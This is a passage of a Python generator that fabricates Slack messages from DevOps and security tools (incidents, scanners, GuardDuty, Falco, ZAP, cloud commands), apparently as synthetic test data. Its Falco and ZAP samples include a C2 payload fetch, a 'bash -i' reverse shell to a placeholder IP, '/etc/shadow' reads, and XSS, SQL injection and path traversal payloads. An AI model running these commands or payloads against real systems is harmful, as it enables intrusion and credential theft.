        return (f"https://{self.pick(REGIONS)}.console.aws.amazon.com/cloudwatch/home#alarmsV2:alarm/"
                f"{svc}-{env}-{self.pick(['5xx', 'latency', 'cpu'])}?~(search~'{svc})")

    def post_incident(self) -> Doc:
        v = self.values()
        svc, env = v["svc"], v["env"]
        num = self.rng.randint(300, 900)
        tool = self.pick(["PagerDuty", "incident.io", "Opsgenie", "incident.io", "PagerDuty"])
        lead = self.pick(PEOPLE)[0]
        sev = self.pick(["SEV1", "SEV2", "SEV3", "P1", "P2"])
        summaries = [
            f"Starting 14:02 UTC, ~8% of POST /api/v2/orders requests return 502 from the ALB. Rollback of "
            f"v{v['ver']} in progress; `kubectl -n {env} rollout undo deploy/{svc}` issued by {lead}.",
            "Login latency p99 at 4.2 s (SLO 800 ms). Redis `SLOWLOG GET 10` shows `KEYS session:*` from the "
            "cleanup cron; cron disabled, latency recovering.",
            "Payments webhooks failing signature verification after the secret rotation. Error in logs: "
            "`stripe.error.SignatureVerificationError: No signatures found matching the expected signature`.",
            f"Disk full on {env} postgres replica (`/var/lib/postgresql/data` 100%). WAL archiving stuck: "
            f"`archive command failed with exit code 1` for `aws s3 cp pg_wal/000000010000A2B4000000C1 ...`.",
            f"DNS resolution failures for *.internal from {svc} pods: `dial tcp: lookup db.{env}.acme.internal on "
            f"172.20.0.10:53: server misbehaving`. CoreDNS scaled from 2 to 6 replicas.",
            f"Customer reports (ZD #{v['n']}) of blank checkout page in Safari 17. Console: `TypeError: "
            f"undefined is not an object (evaluating 'window.ApplePaySession.canMakePayments')`.",
            "Certificate for api.acme.dev expired at 00:00 UTC: `x509: certificate has expired or is not yet "
            "valid: current time 2024-06-22T00:03:11Z is after 2024-06-22T00:00:00Z`. Renewed via cert-manager."]
        summary = self.pick(summaries)
        headline = {0: "5xx on POST /api/v2/orders", 1: "login latency above SLO", 2: "webhook signature failures",
                    3: "postgres replica disk full", 4: "DNS failures for *.internal",
                    5: "blank checkout page in Safari", 6: "expired certificate on api.acme.dev"}[
            summaries.index(summary)]
        inc_url = {"PagerDuty": f"https://acme.pagerduty.com/incidents/Q{_h(str(num), 12)}",
                   "incident.io": f"https://app.incident.io/acme/incidents/{num}",
                   "Opsgenie": f"https://acme.app.opsgenie.com/alert/detail/{self.sha(8)}-{self.sha(4)}-{self.sha(4)}"
                               f"-{self.sha(4)}-{self.sha(12)}-{self.rng.randint(10**12, 10**13)}/details"}[tool]
        status = self.pick(["Triggered", "Acknowledged", "Investigating", "Identified", "Monitoring", "Resolved"])
        if tool == "PagerDuty":
            att = self.attachment(1, "#e01e5a" if status != "Resolved" else "#2eb67d",
                                  f"{status} #{num}: [{svc}] {sev}",
                                  text=f"*<{inc_url}|[#{num}] {svc}: {_esc(headline)}>*\n{_esc(summary)}",
                                  fields=[("Service", svc, True), ("Assigned", lead, True), ("Urgency", "High", True),
                                          ("Status", status, True)],
                                  footer=f"PagerDuty · {env}", ts=self.clock)
            return {"app": tool, "text": f"{status} #{num}", "attachments": [att], "blocks": None}
        timeline = "\n".join(f"{h:02d}:{m:02d} UTC — {e}" for h, m, e in sorted([
            (14, self.rng.randint(0, 9), "alert fired: 5xx > 5% (Datadog monitor)"),
            (14, self.rng.randint(10, 29), f"{lead} declared the incident"),
            (14, self.rng.randint(30, 59), f"rollback `helm rollback {svc} {self.rng.randint(20, 90)} -n {env}`"),
            (15, self.rng.randint(0, 30), "error rate back under 0.5%")]))
        blocks = [self.header(f"🚨 INC-{num}: {headline} ({svc})"),
                  self.section(_esc(summary), [f"*Severity*\n{sev}", f"*Status*\n{status}", f"*Lead*\n{lead}",
                                               f"*Affects*\n`{svc}` ({env})"]),
                  self.rich("Timeline", timeline),
                  self.buttons(("Open incident", inc_url), ("Status page", "https://status.acme.dev/incidents/"
                                                                            + _h(str(num), 12).lower()))]
        return {"app": tool, "text": f"INC-{num} {status}", "attachments": None, "blocks": blocks}

    def post_issue(self) -> Doc:
        v = self.values()
        issues = [
            ("Nginx returns 413 for uploads over 1 MB", "Uploading a 3 MB PDF on /settings/documents fails with "
             "`413 Request Entity Too Large`. The api.conf has `client_max_body_size 1m;`."),
            ("Search returns 500 when the query contains a quote", "Steps: search for `O'Reilly` → 500. Log:\n"
             "```psycopg.errors.SyntaxError: unterminated quoted string at or near \"'O'Reilly\"\nLINE 1: ...FROM "
             "books WHERE title LIKE '%O'Reilly%'```"),
            ("CSV export: names starting with = open as formulas in Excel", "A customer named `=HYPERLINK(\"http://"
             "example.com\",\"click\")` shows up as a link. We should prefix `'` for cells starting with = + - @."),
            ("Crash when timezone is America/Argentina/Buenos_Aires", "`zoneinfo.ZoneInfoNotFoundError: 'No time "
             "zone found with key America/Argentina/Buenos_Aires '` (note the trailing space from the form)."),
            ("Markdown preview strips <details> blocks", "Release notes written with `<details><summary>Changes"
             "</summary>...</details>` render as plain text in the preview but fine on GitHub."),
            ("Deep link ../settings resolves to the wrong page in the iOS app", "Opening `acme://app/orders/../"
             "settings` lands on the orders list. URL is not normalized before routing."),
            ("Login fails when the password contains %", "Passwords with `%` (e.g. `50%off!`) fail. The mobile "
             "client sends the form body without percent-encoding."),
            ("Invoice PDF shows &amp; instead of &", "Company names like `Smith & Sons` are double-escaped in the "
             "PDF template: we call `escape()` and then the template autoescapes again."),
            ("Webhook retries flood the queue", "When the receiver returns 500 we retry with no backoff: "
             "`for attempt in range(100): post(url, body)`. Need jittered exponential backoff."),
            ("`make e2e` fails on Apple Silicon", "```docker: Error response from daemon: image with reference "
             "acme/e2e-runner:latest was found but does not match the specified platform: wanted linux/arm64```"),
            ("Slow admin orders page", "The admin list runs `SELECT * FROM orders ORDER BY id DESC LIMIT 25 OFFSET "
             "9975` on page 400. Use keyset pagination."),
            ("Jeeves ignores `config alert_time 7:30`", "It wants `07:30`. Accept H:MM too, or say the format in "
             "the error message."),
            ("S3 presigned URLs break for keys with spaces", "Key `reports/Q2 2024/summary.pdf` gives "
             "`SignatureDoesNotMatch`; we encode the space as + in the path."),
            ("XSS report from bug bounty (triaged, low)", "Reflected in the `next` parameter of /login on staging "
             "only: `/login?next=javascript:alert(document.domain)` is rendered into an href. Fix: allow only "
             "relative paths starting with a single /."),
            ("Healthcheck path /healthz logged as 404 in the gateway", "`GET /healthz HTTP/1.1\" 404` every 10 s "
             "from the ALB since the route moved to /livez."),
            ("Terraform drift on the prod SG", "Someone added `0.0.0.0/0` on 5432 from the console; plan wants to "
             "remove it. Who and why? CloudTrail: `AuthorizeSecurityGroupIngress` by AWSReservedSSO_Admin."),
        ]
        title, desc = self.pick(issues)
        tool = self.pick(["Jira Cloud", "Linear", "GitHub", "Jira Cloud"])
        key = {"Jira Cloud": f"OPS-{v['n']}", "Linear": f"ENG-{self.rng.randint(100, 1999)}",
               "GitHub": f"#{self.rng.randint(100, 4000)}"}[tool]
        url = {"Jira Cloud": f"https://acme.atlassian.net/browse/{key}",
               "Linear": f"https://linear.app/acme/issue/{key.lower()}/"
                         + "-".join(re.sub(r"[^a-z0-9]+", "-", title.lower()).strip("-").split("-")[:8]),
               "GitHub": f"https://github.com/acme/{self.pick(REPOS)}/issues/{key[1:]}"}[tool]
        reporter, assignee = self.pick(PEOPLE)[0], self.pick(PEOPLE)[0]
        action = self.pick(["created", "updated", "commented on", "transitioned", "assigned"])
        if tool == "Jira Cloud" or self.rng.random() < 0.4:
            fields = [("Status", self.pick(["To Do", "In Progress", "In Review", "Done"]), True),
                      ("Priority", self.pick(["Highest", "High", "Medium", "Low"]), True),
                      ("Assignee", assignee, True), ("Reporter", reporter, True)]
            att = self.attachment(1, "#0052cc", f"{key}: {title}", pretext=f"{reporter} {action} an issue",
                                  title=f"{key}: {_esc(title)}", title_link=url, text=_esc(desc), fields=fields,
                                  footer=f"{tool} | {self.pick(['Bug', 'Task', 'Story', 'Incident'])}",
                                  ts=self.clock)
            return {"app": tool, "text": "", "attachments": [att], "blocks": None}
        blocks = [self.section(f"*<{url}|{key} {_esc(title)}>*\n{_esc(desc)}"),
                  self.context(f"{reporter} {action} · {self.pick(['Triage', 'Backlog', 'Todo', 'In Progress'])} · "
                               f"{self.pick(['Bug', 'Improvement', 'Security'])}")]
        return {"app": tool, "text": f"{key} {title}", "attachments": None, "blocks": blocks}

    def post_security(self) -> Doc:
        v = self.values()
        kind = self.rng.randrange(7)
        repo = f"acme/{self.pick(REPOS)}"
        if kind == 0:
            cve, pkg, have, fix, sev, desc = self.pick(CVES)
            num = self.rng.randint(10, 400)
            app = self.pick(["Dependabot", "Snyk", "GitHub"])
            att = self.attachment(1, "#e01e5a" if sev == "Critical" else "#ecb22e",
                                  f"{app} alert #{num}: {cve} in {pkg}",
                                  title=f"{cve} ({sev}) in {pkg} {have}", title_link=f"https://github.com/{repo}/"
                                  f"security/dependabot/{num}", text=_esc(desc),
                                  fields=[("Package", f"`{pkg}`", True), ("Installed", have, True),
                                          ("Fixed in", fix, True), ("Manifest", self.pick(["package-lock.json",
                                          "requirements.lock", "go.sum", "pom.xml", "Gemfile.lock",
                                          "Dockerfile (base image)"]), True)],
                                  footer=f"{app} · {repo}", ts=self.clock)
            return {"app": app, "text": f"New {sev.lower()} vulnerability in {repo}", "attachments": [att],
                    "blocks": None}
        if kind == 1:
            rows = [["Library", "Vulnerability", "Severity", "Installed", "Fixed", "Title"]]
            for cve, pkg, have, fix, sev, desc in self.rng.sample(CVES, self.rng.randint(2, 5)):
                rows.append([pkg, cve, sev.upper(), have, fix, desc.split(". ")[0][:70]])
            image = f"ghcr.io/acme/{v['svc']}:v{v['ver']}"
            widths = [max(len(r[i]) for r in rows) for i in range(6)]
            text_table = "\n".join(" │ ".join(c.ljust(widths[i]) for i, c in enumerate(r)) for r in rows)
            blocks = [self.header(f"Trivy: {len(rows) - 1} vulnerabilities in {image}"),
                      self.table(rows) if self.rng.random() < 0.5 else self.rich(f"{image} (debian 12.5)", text_table),
                      self.context(f"Total: {len(rows) - 1} (CRITICAL: {self.rng.randint(0, 3)}, HIGH: "
                                   f"{self.rng.randint(0, 9)}) · scanned in CI run #{v['n']}")]
            return {"app": "Trivy", "text": f"Trivy scan of {image}", "attachments": None, "blocks": blocks}
        if kind == 2:
            rule, msg, path, code = self.pick(SEMGREP)
            line = self.rng.randint(5, 300)
            remark = self.pick(['TODO', 'legacy', 'see OPS-' + v['n']])
            finding = f"https://semgrep.dev/orgs/acme/findings/{self.rng.randint(10**7, 10**8)}"
            triage = f"https://semgrep.dev/orgs/acme/findings?repo={urllib.parse.quote(repo, '')}"
            blocks = [self.section(f"*Semgrep* found a new blocking finding in <https://github.com/{repo}|{repo}>\n"
                                   f"*{_esc(rule)}*\n{_esc(msg)}"),
                      self.rich(f"{path}:{line}", f"{line - 1} |     # {remark}\n{line} |     {code}"),
                      self.buttons(("View finding", finding), ("Triage", triage))]
            return {"app": "Semgrep", "text": f"Semgrep: {rule}", "attachments": None, "blocks": blocks}
        if kind == 3:
            findings = [
                ("UnauthorizedAccess:EC2/SSHBruteForce", f"198.51.100.{self.rng.randint(2, 250)} is performing SSH "
                 f"brute force attacks against i-0{self.sha(16)}. Brute force attacks are used to gain unauthorized "
                 "access to your instance by guessing the SSH password."),
                ("Recon:EC2/PortProbeUnprotectedPort", f"Unprotected port 5432 on EC2 instance i-0{self.sha(16)} is "
                 "being probed by a known malicious host."),
                ("CryptoCurrency:EC2/BitcoinTool.B!DNS", f"EC2 instance i-0{self.sha(16)} is querying a domain name "
                 "that is associated with Bitcoin-related activity."),
                ("Policy:S3/BucketBlockPublicAccessDisabled", "Amazon S3 Block Public Access was disabled for S3 "
                 f"bucket acme-{v['env']}-exports by arn:aws:sts::{v['account']}:assumed-role/AWSReservedSSO_"
                 f"Admin_{self.sha(16)}/{self.pick(PEOPLE)[1]}@acme.dev."),
                ("Execution:Runtime/NewBinaryExecuted", f"A newly created or recently modified binary file "
                 f"/tmp/.cache/kdevtmpfsi was executed in container {v['svc']} in pod {v['svc']}-{self.sha(5)}."),
            ]
            ftype, desc = self.pick(findings)
            sev = f"{self.rng.uniform(2, 8.9):.1f}"
            att = self.attachment(1, "#e01e5a" if float(sev) >= 7 else "#ecb22e", f"GuardDuty Finding: {ftype}",
                                  title=f"GuardDuty Finding | {v['region']} | Account: {v['account']}",
                                  title_link=f"https://{v['region']}.console.aws.amazon.com/guardduty/home?region="
                                             f"{v['region']}#/findings?macros=current&fId={self.sha(32)}",
                                  text=f"*{ftype}*\n{_esc(desc)}",
                                  fields=[("Severity", sev, True), ("Count", str(self.rng.randint(1, 900)), True)],
                                  footer="AWS Chatbot", ts=self.clock)
            return {"app": "AWS Chatbot", "text": "", "attachments": [att], "blocks": None}
        if kind == 4:
            pod = f"{v['svc']}-{self.sha(9)}-{self.sha(5)}"
            outputs = [
                f"Notice A shell was spawned in a container with an attached terminal (user=root user_loginuid=-1 "
                f"k8s.ns={v['env']} k8s.pod={pod} container={self.sha(12)} shell=bash parent=runc "
                f"cmdline=bash terminal=34816 container_id={self.sha(12)} image=ghcr.io/acme/{v['svc']})",
                f"Warning Sensitive file opened for reading by non-trusted program (user=root user_loginuid=-1 "
                f"program=cat command=cat /etc/shadow pid={self.rng.randint(100, 60000)} file=/etc/shadow "
                f"parent=sh gparent=containerd-shim container_id={self.sha(12)} image=debian)",
                f"Error Outbound connection to C2 server (command=curl -s http://203.0.113.9:8080/x.sh "
                f"connection=10.42.3.17:51234->203.0.113.9:8080 user=www-data container_id={self.sha(12)} "
                f"k8s.pod={pod})",
                f"Warning Redirect STDOUT/STDIN to Network Connection in Container (fd.name=10.42.3.17:40112->"
                f"198.51.100.4:4444 evt.type=dup2 user=root process=bash parent=python3 "
                f"command=bash -i k8s.ns={v['env']} k8s.pod={pod})",
                f"Notice Unexpected connection to K8s API Server from container (command=kubectl get secrets -A "
                f"k8s.ns={v['env']} k8s.pod={pod} container={self.sha(12)} image=bitnami/kubectl:1.29)",
            ]
            out = self.pick(outputs)
            rule = out.split(" (")[0].split(" ", 1)[1]
            att = self.attachment(1, "#e01e5a" if out.startswith(("Error", "Warning")) else "#ecb22e", out,
                                  pretext=f"Falco rule *{_esc(rule)}* triggered", text=_esc(out),
                                  fields=[("priority", out.split(" ")[0], True), ("rule", _esc(rule), True),
                                          ("k8s.ns.name", v["env"], True), ("k8s.pod.name", pod, True),
                                          ("hostname", f"ip-10-0-{self.rng.randint(1, 40)}-{self.rng.randint(2, 250)}"
                                                       ".ec2.internal", True)],
                                  footer="https://github.com/falcosecurity/falcosidekick", ts=self.clock)
            return {"app": "Falcosidekick", "text": "", "attachments": [att], "blocks": None}
        if kind == 5:
            secret = self.pick([("aws-access-token", "AKIA" + "*" * 16), ("generic-api-key", "sk_live_" + "*" * 20),
                                ("slack-webhook-url", "https://hooks.slack.com/services/T***/B***/****"),
                                ("private-key", "-----BEGIN OPENSSH PRIVATE KEY-----"),
                                ("github-pat", "ghp_" + "*" * 36)])
            where = self.pick(['config/dev.env', '.env.example', 'scripts/seed.py', 'docs/setup.md',
                               'deploy/values-dev.yaml'])
            text = (f"Finding:     {secret[1]}\nSecret:      REDACTED\nRuleID:      {secret[0]}\nEntropy:     "
                    f"{self.rng.uniform(3, 5.9):.6f}\nFile:        {where}\nLine:        "
                    f"{self.rng.randint(1, 90)}\nCommit:      {self.sha()}\nAuthor:      {self.pick(PEOPLE)[0]}\n"
                    f"Date:        2024-06-{self.rng.randint(10, 21)}T{self.rng.randint(0, 23):02d}:12:09Z")
            blocks = [self.section(f":rotating_light: *gitleaks* found {self.rng.randint(1, 3)} leak(s) in "
                                   f"`{repo}` on push to `{v['branch']}`"), self.rich("", text),
                      self.context("Rotate the credential first, then rewrite history. See <https://wiki.acme.dev/"
                                   "security/leaked-secrets|runbook>.")]
            return {"app": "gitleaks", "text": "gitleaks: leaks found", "attachments": None, "blocks": blocks}
        alerts = [
            ("Cross Site Scripting (Reflected)", "40012", "/search?q=%3C%2Fp%3E%3CscrIpt%3Ealert%281%29%3B"
             "%3C%2FscRipt%3E%3Cp%3E"),
            ("SQL Injection", "40018", "/api/v1/products?sort=name%27+AND+%271%27%3D%271"),
            ("Path Traversal", "6", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
            ("Content Security Policy (CSP) Header Not Set", "10038", "/"),
            ("Cookie without SameSite Attribute", "10054", "/login"),
            ("Missing Anti-clickjacking Header", "10020", "/account"),
            ("Server Leaks Version Information via \"Server\" HTTP Response Header Field", "10036", "/robots.txt"),
            ("Application Error Disclosure", "90022", "/api/v1/orders/%27"),
        ]
        lines = []
        for name, rid, path in self.rng.sample(alerts, self.rng.randint(2, 5)):
            code = self.pick(['200 OK', '500 Internal Server Error', '302 Found'])
            lines.append(f"WARN-NEW: {name} [{rid}] x {self.rng.randint(1, 12)}\n\t"
                         f"https://{v['env']}.acme.dev{path} ({code})")
        report = "\n".join(lines) + f"\nFAIL-NEW: 0\tFAIL-INPROG: 0\tWARN-NEW: {len(lines)}\tWARN-INPROG: 0\t" \
                                    f"INFO: 0\tIGNORE: 0\tPASS: {self.rng.randint(90, 120)}"
        blocks = [self.section(f"*OWASP ZAP baseline scan* of `https://{v['env']}.acme.dev` finished"),
                  self.rich("", report), self.context(f"ZAP {self.pick(['2.14.0', '2.15.0'])} · nightly DAST")]
        return {"app": "OWASP ZAP", "text": "ZAP baseline scan results", "attachments": None, "blocks": blocks}

    def post_slowquery(self) -> Doc:
        v = self.values()
        query = self.pick(SLOW_QUERIES)
        plan = self.fill(self.pick(EXPLAINS), v)
        db = self.pick(["orders-primary", "ledger-pg", "analytics-replica", "app-mysql-01", "checkout-aurora"])
        secs = f"{self.rng.uniform(1.0, 45.0):.2f}"
        kind = self.rng.randrange(4)
        if kind == 0:
            att = self.attachment(1, "#ecb22e", f"Slow query on {db}: {secs} s",
                                  pretext=f"pganalyze: new slow query on *{db}*",
                                  title=f"Query #{self.rng.randint(10**5, 10**6)} · avg {secs} s · "
                                        f"{self.rng.randint(2, 9000)} calls/min",
                                  title_link=f"https://app.pganalyze.com/databases/{self.rng.randint(1000, 9999)}/"
                                             f"queries/{self.rng.randint(10**6, 10**7)}?role=&period=24h",
                                  text=f"```{_esc(query)}```",
                                  fields=[("Database", db, True), ("User", self.pick(["app", "reporting", "metabase"]),
                                                                   True),
                                          ("Rows examined", f"{self.rng.randint(10**4, 10**7):,}", True)],
                                  footer="pganalyze", ts=self.clock)
            return {"app": "pganalyze", "text": "", "attachments": [att], "blocks": None}
        if kind == 1:
            blocks = [self.header(f"Slow query report: {db} (last 24 h)"),
                      self.table([["#", "Mean", "Calls", "Query"]] + [
                          [str(i + 1), f"{self.rng.uniform(0.3, 30):.2f} s", str(self.rng.randint(3, 90000)),
                           q[:90] + ("…" if len(q) > 90 else "")]
                          for i, q in enumerate(self.rng.sample(SLOW_QUERIES, 4))]),
                      self.rich("Top query plan:", plan),
                      self.context(f"Percona PMM · <https://pmm.acme.dev/graph/d/pmm-qan/pmm-query-analytics?"
                                   f"var-service_name={db}&from=now-24h&to=now|Query Analytics>")]
            return {"app": "Percona PMM", "text": f"Slow query report for {db}", "attachments": None,
                    "blocks": blocks}
        if kind == 2:
            err = self.pick([
                "Database Error in model stg_orders (models/staging/stg_orders.sql)\n  column \"currency\" does not "
                "exist\n  LINE 12:     currency as currency_code,\n                ^",
                "Database Error in model fct_revenue (models/marts/fct_revenue.sql)\n  division by zero\n"
                "  compiled Code at target/run/acme/models/marts/fct_revenue.sql",
                "Runtime Error in snapshot customers_snapshot\n  could not serialize access due to concurrent update",
            ])
            blocks = [self.section(f":x: dbt Cloud job *{self.pick(['nightly', 'hourly-marts', 'prod-run'])}* "
                                   f"failed (run #{v['n']})"), self.rich("", err),
                      self.context(f"<https://cloud.getdbt.com/deploy/{self.rng.randint(1000, 9999)}/projects/"
                                   f"{self.rng.randint(1000, 9999)}/runs/{self.rng.randint(10**8, 10**9)}|View run>")]
            return {"app": "dbt Cloud", "text": "dbt Cloud run failed", "attachments": None, "blocks": blocks}
        pid = self.rng.randint(1000, 60000)
        lock = (f"pid {pid} waiting {secs} s for AccessExclusiveLock on relation orders\n  query: "
                f"ALTER TABLE orders ADD COLUMN refunded_at timestamptz;\nblocked by pid {pid + 17} "
                f"(state: idle in transaction, since {self.rng.randint(5, 120)} min)\n  last query: "
                f"{query}")
        blocks = [self.section(f":lock: *Lock wait on {db}*"), self.rich("", lock),
                  self.context(f"`SELECT pg_cancel_backend({pid + 17});` to cancel, "
                               f"`pg_terminate_backend` to kill · Metabase alert")]
        return {"app": "Metabase", "text": f"Lock wait on {db}", "attachments": None, "blocks": blocks}

    def post_cloud(self) -> Doc:
        v = self.values()
        kind = self.rng.randrange(7)
        region, account, svc, env = v["region"], v["account"], v["svc"], v["env"]
        if kind == 0:
            value = self.rng.uniform(80, 99)
            alarm = f"{svc}-{env}-{self.pick(['cpu-high', '5xx', 'queue-depth', 'free-storage-low'])}"
            att = self.attachment(1, "#e01e5a", f"CloudWatch Alarm | {alarm} | {region} | Account: {account}",
                                  title=f"CloudWatch Alarm | {alarm} | {region} | Account: {account}",
                                  title_link=f"https://console.aws.amazon.com/cloudwatch/home?region={region}"
                                             f"#alarmsV2:alarm/{alarm}",
                                  text=f"Threshold Crossed: 1 out of the last 1 datapoints [{value:.1f} (21/06/24 "
                                       f"20:05:00)] was greater than or equal to the threshold (80.0) (minimum 1 "
                                       f"datapoint for OK -&gt; ALARM transition).",
                                  fields=[("Alarm Name", alarm, True), ("Namespace", self.pick(["AWS/RDS",
                                          "AWS/ApplicationELB", "AWS/SQS", "AWS/Lambda"]), True),
                                          ("Resource", f"arn:aws:rds:{region}:{account}:db:{svc}-{env}", False)],
                                  footer="AWS Chatbot", ts=self.clock)
            return {"app": "AWS Chatbot", "text": "", "attachments": [att], "blocks": None}
        if kind == 1:
            policy = {"Version": "2012-10-17", "Statement": [
                {"Sid": "ArtifactsReadWrite", "Effect": "Allow",
                 "Action": ["s3:GetObject", "s3:PutObject", "s3:ListBucket"],
                 "Resource": [f"arn:aws:s3:::acme-{env}-artifacts", f"arn:aws:s3:::acme-{env}-artifacts/*"],
                 "Condition": {"StringEquals": {"aws:PrincipalOrgID": "o-" + self.sha(10)}}},
                {"Sid": "DenyInsecureTransport", "Effect": "Deny", "Principal": "*", "Action": "s3:*",
                 "Resource": f"arn:aws:s3:::acme-{env}-artifacts/*",
                 "Condition": {"Bool": {"aws:SecureTransport": "false"}}}]}
            who = f"arn:aws:sts::{account}:assumed-role/AWSReservedSSO_Admin_{self.sha(16)}/{self.pick(PEOPLE)[1]}" \
                  f"@acme.dev"
            call = self.pick(['PutBucketPolicy', 'PutRolePolicy', 'CreatePolicyVersion'])
            blocks = [self.section(f"*CloudTrail:* `{call}` in {region}",
                                   [f"*Principal*\n`{who}`", f"*Source IP*\n203.0.113.{self.rng.randint(2, 250)}",
                                    f"*Account*\n{account}", f"*Event time*\n2024-06-21T20:{self.rng.randint(10, 59)}"
                                                             ":03Z"]),
                      self.rich("New policy document:", json.dumps(policy, indent=2))]
            return {"app": "AWS Chatbot", "text": "CloudTrail policy change", "attachments": None, "blocks": blocks}
        if kind == 2:
            out = self.fill(self.pick(KUBECTL), v)
            cluster = self.pick(["prod-eks-1", "staging-eks", "gke-prod-europe-west1", "aks-core-weu"])
            blocks = [self.section(f":kubernetes: *{cluster}* · `{env}` namespace · requested by "
                                   f"<@{self.pick(self.users[self.cur_team])[0]}>"),
                      self.rich(f"$ kubectl -n {env} get pods -l app={svc}", out)]
            return {"app": "AWS Chatbot", "text": f"kubectl output from {cluster}", "attachments": None,
                    "blocks": blocks}
        if kind == 3:
            plan = self.fill(self.pick(TF_PLANS), v)
            pr = self.rng.randint(100, 2000)
            blocks = [self.section(f"*Atlantis* ran `terraform plan` for <https://github.com/acme/terraform-live/"
                                   f"pull/{pr}|acme/terraform-live#{pr}> dir: `envs/{env}/{svc}` workspace: "
                                   f"`default`"), self.rich("", plan),
                      self.context(f"To apply, comment `atlantis apply -d envs/{env}/{svc}`")]
            return {"app": "Atlantis", "text": "Plan succeeded", "attachments": None, "blocks": blocks}
        if kind == 4:
            status = self.pick(["OutOfSync", "Synced", "Unknown"])
            health = self.pick(["Degraded", "Healthy", "Progressing", "Missing"])
            argo_msg = self.pick([
                'one or more objects failed to apply, reason: admission webhook '
                '"validate.kyverno.svc-fail" denied the request',
                'successfully synced (all tasks run)',
                'ComparisonError: rpc error: code = Unknown desc = helm template . '
                '--name-template ' + svc + ' failed exit status 1'])
            app_url = f"https://argocd.acme.dev/applications/argocd/{svc}-{env}?view=tree&conditions=false&" \
                      f"resource=kind%3ADeployment%2Cname%3A{svc}"
            att = self.attachment(1, "#f4c030" if health != "Healthy" else "#18be52",
                                  f"Application {svc}-{env} sync {status}, health {health}",
                                  title=f"{svc}-{env}", title_link=app_url,
                                  text=f"Application *{svc}-{env}* sync is {status}.\nHealth: {health}\n"
                                       f"Revision: `{self.sha(7)}`\nMessage: `{argo_msg}`",
                                  fields=[("Sync Status", status, True), ("Health", health, True),
                                          ("Repository", "https://github.com/acme/helm-charts", False)],
                                  footer="Argo CD", ts=self.clock)
            return {"app": "Argo CD", "text": "", "attachments": [att], "blocks": None}
        if kind == 5:
            amount = self.rng.randint(300, 9000)
            cost_service = self.pick(['EC2-Other', 'Amazon RDS', 'AWS Lambda', 'Amazon S3', 'Data Transfer'])
            usage_type = self.pick(['USE1-NatGateway-Bytes', 'EU-DataTransfer-Out-Bytes', 'TimedStorage-ByteHrs'])
            blocks = [self.header("AWS Cost Anomaly Detection"),
                      self.section(f"Spend of *${amount:,}* above the expected in *{cost_service}* "
                                   f"({region})", [f"*Linked account*\n{account}",
                                                   f"*Usage type*\n{usage_type}",
                                                   f"*Root cause*\n`{svc}` ({env})", "*Impact*\n"
                                                   f"{self.rng.randint(20, 400)}%"]),
                      self.buttons(("Cost Explorer", "https://us-east-1.console.aws.amazon.com/cost-management/home"
                                    f"?region=us-east-1#/anomaly-detection/monitors/{self.sha(8)}-{self.sha(4)}-"
                                    f"{self.sha(4)}-{self.sha(4)}-{self.sha(12)}/anomalies/{self.sha(8)}"))]
            return {"app": "AWS Chatbot", "text": "Cost anomaly", "attachments": None, "blocks": blocks}
        cmd = self.pick([
            f"gcloud run deploy {svc} --image=europe-west1-docker.pkg.dev/acme-{env}/app/{svc}:v{v['ver']} "
            f"--region=europe-west1 --no-traffic --tag=canary",
            f"gcloud compute ssh bastion-{env} --tunnel-through-iap --zone=europe-west1-b -- -L 5432:10.10.0.5:5432",
            f"az webapp config appsettings set -g rg-{env} -n acme-{svc} --settings FEATURE_FLAGS=\"new-checkout,"
            f"retry-capture\"",
            f"aws ecs update-service --cluster {env} --service {svc} --force-new-deployment --region {region}",
            f"aws lambda invoke --function-name arn:aws:lambda:{region}:{account}:function:{svc}-resize:live "
            f"--payload '{{\"key\":\"uploads/2024/06/21/IMG_0042.HEIC\"}}' --cli-binary-format raw-in-base64-out "
            f"/dev/stdout"])
        result = self.pick(["Deploying... Done.\nService [" + svc + "] revision [" + svc + "-00042-xoz] has been "
                            "deployed and is serving 0 percent of traffic.", '{"StatusCode": 200, "ExecutedVersion": '
                            '"7"}', "ERROR: (gcloud.run.deploy) PERMISSION_DENIED: Permission 'run.services.update' "
                            "denied on resource", "{\n    \"service\": {\n        \"status\": \"ACTIVE\",\n"
                            "        \"desiredCount\": 3\n    }\n}"])
        blocks = [self.section(f"<@{self.pick(self.users[self.cur_team])[0]}> ran a command from Slack"),
                  self.rich("", f"$ {cmd}\n{result}")]
        return {"app": self.pick(["AWS Chatbot", "Google Cloud Monitoring"]), "text": "command output",
                "attachments": None, "blocks": blocks}

    def post_any(self) -> Doc:
        maker: Callable[[], Doc] = self.pick([self.post_ci, self.post_tests, self.post_review, self.post_alert,
                                              self.post_incident, self.post_issue, self.post_security,
                                              self.post_slowquery, self.post_cloud])
        return maker()

    # ---- Slack envelopes ----
    def bot_message(self, post: Doc, team: str, ts: str, *, legacy: bool | None = None) -> Doc:
        app = self.apps[post["app"]]
        if legacy is None:
            legacy = self.rng.random() < 0.35
        msg: Doc = {"type": "message"}
        if legacy:
            msg["subtype"] = "bot_message"
            msg["text"] = post["text"]
            msg["username"] = app["name"]
            msg["icons"] = {"image_48": app["icon"].replace("_72", "_48")}
            msg["bot_id"] = app["bot_id"]
        else:
            msg["text"] = post["text"]
            msg["user"] = app["user"]
            msg["bot_id"] = app["bot_id"]
            msg["app_id"] = app["app_id"]
            msg["bot_profile"] = {"id": app["bot_id"], "deleted": False, "name": app["name"],
                                  "updated": EPOCH - self.rng.randint(10**5, 10**7), "app_id": app["app_id"],
                                  "icons": {"image_36": app["icon"].replace("_72", "_36"),
                                            "image_48": app["icon"].replace("_72", "_48"), "image_72": app["icon"]},
                                  "team_id": team}
            msg["team"] = team
        if post.get("attachments"):
            msg["attachments"] = post["attachments"]
        if post.get("blocks"):
            msg["blocks"] = post["blocks"]
        msg["ts"] = ts
        return msg

    def envelope(self, team: str, event: Doc, at: int) -> Doc:
        self.serial += 1
        event_id = f"Ev0{self.serial:04d}" + "".join(self.rng.choice(_UP) for _ in range(6))
        context = {"et": event.get("type"), "tid": team, "aid": APP_ID, "cid": event.get("channel", "")}
        ctx = base64.urlsafe_b64encode(json.dumps(context, separators=(",", ":")).encode()).decode().rstrip("=")
        return {"token": _token("verification" + team), "team_id": team, "context_team_id": team,
                "context_enterprise_id": None, "api_app_id": APP_ID, "event": event, "type": "event_callback",
                "event_id": event_id, "event_time": at,
                "authorizations": [{"enterprise_id": None, "team_id": team, "user_id": self.jeeves_user[team],
                                    "is_bot": True, "is_enterprise_install": False}],
                "is_ext_shared_channel": self.rng.random() < 0.05, "event_context": "4-" + ctx}

    def dump(self, doc: Doc) -> str:
